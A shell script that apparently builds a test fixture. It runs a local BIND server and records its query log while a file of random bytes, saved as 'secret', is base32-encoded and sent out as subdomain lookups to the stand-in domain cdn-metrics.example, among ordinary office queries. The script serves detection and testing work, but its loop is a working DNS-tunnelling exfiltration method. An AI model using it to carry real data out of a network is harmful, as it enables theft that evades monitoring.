#!/bin/sh
# Records `dns-tunnel.ndjson.gz`: the query log of a real BIND while a file leaves through host names, among the queries
# of an office. Needs named and dig besides what `record-lib.sh` names.
set -eu
. "$(dirname "$0")/record-lib.sh"

machine ns-01 10.20.0.53 10.20.6.21 10.20.6.22 10.20.6.23
mkdir "$WORK/named"
chmod 777 "$WORK/named"
cat >"$WORK/named/tunnel.zone" <<'ZONE'
$TTL 60
@ IN SOA ns.cdn-metrics.example. root.cdn-metrics.example. 1 3600 600 86400 60
  IN NS ns.cdn-metrics.example.
ns IN A 198.51.100.9
* IN TXT "ok"
* IN A 198.51.100.9
ZONE
cat >"$WORK/named/office.zone" <<'ZONE'
$TTL 60
@ IN SOA ns.city.example. root.city.example. 1 3600 600 86400 60
  IN NS ns.city.example.
ns IN A 10.20.0.53
www IN A 10.20.3.17
mail IN A 10.20.3.25
  IN TXT "v=spf1 mx -all"
files IN A 10.20.3.40
ZONE
cat >"$WORK/named/named.conf" <<CONF
options { directory "$WORK/named"; pid-file "$WORK/named/pid"; listen-on port 5300 { 10.20.0.53; }; listen-on-v6 { none; };
  recursion no; allow-query { any; }; session-keyfile "$WORK/named/session.key"; dnssec-validation no; };
controls { };
logging {
  channel queries { file "$WORK/named/query.log"; print-time yes; print-category yes; print-severity yes; };
  category queries { queries; };
};
zone "cdn-metrics.example" { type primary; file "tunnel.zone"; };
zone "city.example" { type primary; file "office.zone"; };
CONF
TZ=UTC background named -f -c "$WORK/named/named.conf" -n 1
sleep 2

# ask FROM NAME TYPE
ask() {
  dig @10.20.0.53 -p 5300 -b "$1" +tries=1 +time=1 "$2" "$3" >/dev/null 2>&1 || true
}
office() {
  for name in www mail files; do
    ask 10.20.6.21 "$name.city.example" A
    ask 10.20.6.22 "$name.city.example" AAAA
  done
  ask 10.20.6.22 mail.city.example TXT
}

office
head -c 4000 /dev/urandom >"$WORK/secret"
number=0
base32 -w 0 "$WORK/secret" | tr -d '=' | tr 'A-Z' 'a-z' | fold -w 50 | while read -r part; do
  number=$((number + 1))
  ask 10.20.6.23 "$part.$number.s7.t.cdn-metrics.example" TXT
  [ $((number % 30)) != 0 ] || office
done
# The rest by the type that has no meaning of its own.
for part in aaaqeayeaudaocajbifqydiob4ibceqtcqkrmfyy gaydamjqgaytamjqgaytamjqgaytamjqgaytamjq; do
  ask 10.20.6.23 "$part.end.s7.t.cdn-metrics.example" TYPE10
done
office
sleep 1
keep "$WORK/named/query.log" auto "$HERE/dns-tunnel.ndjson.gz"
